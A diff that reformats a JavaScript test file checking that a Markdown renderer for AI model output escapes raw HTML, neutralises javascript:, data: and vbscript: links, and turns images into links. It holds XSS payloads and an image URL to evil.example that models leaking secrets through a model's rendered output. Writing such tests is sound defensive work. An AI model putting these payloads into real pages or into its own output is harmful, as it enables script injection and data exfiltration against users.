@@ -15,7 +15,9 @@ describe("Markdown: model output rendered safely", () => {
   });
 
   it("shows raw HTML as text, never as elements", () => {
-    const html = render('Hi <img src=x onerror="alert(1)"> there\n\n<script>alert(2)</script>\n\n<iframe src="https://evil.example"></iframe>');
+    const html = render(
+      'Hi <img src=x onerror="alert(1)"> there\n\n<script>alert(2)</script>\n\n<iframe src="https://evil.example"></iframe>',
+    );
     expect(html).not.toMatch(/<img|<script|<iframe/);
     expect(html).toContain("&lt;img src=x onerror=&quot;alert(1)&quot;&gt;");
     expect(html).toContain("&lt;script&gt;alert(2)&lt;/script&gt;");
@@ -30,7 +32,15 @@ describe("Markdown: model output rendered safely", () => {
   });
 
   it("turns javascript:, data:, vbscript: and relative links into plain text", () => {
-    for (const target of ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<b>x</b>", "vbscript:x", "/admin", "//evil.example/x", " javascript:alert(1)"]) {
+    for (const target of [
+      "javascript:alert(1)",
+      "JaVaScRiPt:alert(1)",
+      "data:text/html,<b>x</b>",
+      "vbscript:x",
+      "/admin",
+      "//evil.example/x",
+      " javascript:alert(1)",
+    ]) {
       const html = render(`[click](${target})`);
       expect(html, target).not.toContain("<a");
       expect(html, target).toContain("click");
@@ -40,7 +50,9 @@ describe("Markdown: model output rendered safely", () => {
   it("never loads images: an image becomes a link the user can choose to open", () => {
     const html = render("![the secret](https://evil.example/leak?d=secret) ![x](javascript:alert(1))");
     expect(html).not.toContain("<img");
-    expect(html).toContain('<a class="md-image-link" href="https://evil.example/leak?d=secret" target="_blank" rel="noopener noreferrer"');
+    expect(html).toContain(
+      '<a class="md-image-link" href="https://evil.example/leak?d=secret" target="_blank" rel="noopener noreferrer"',
+    );
     expect(html).toContain("[Image: the secret]");
     expect(html).toContain("[Image: x]");
     expect(html).not.toContain("javascript:");
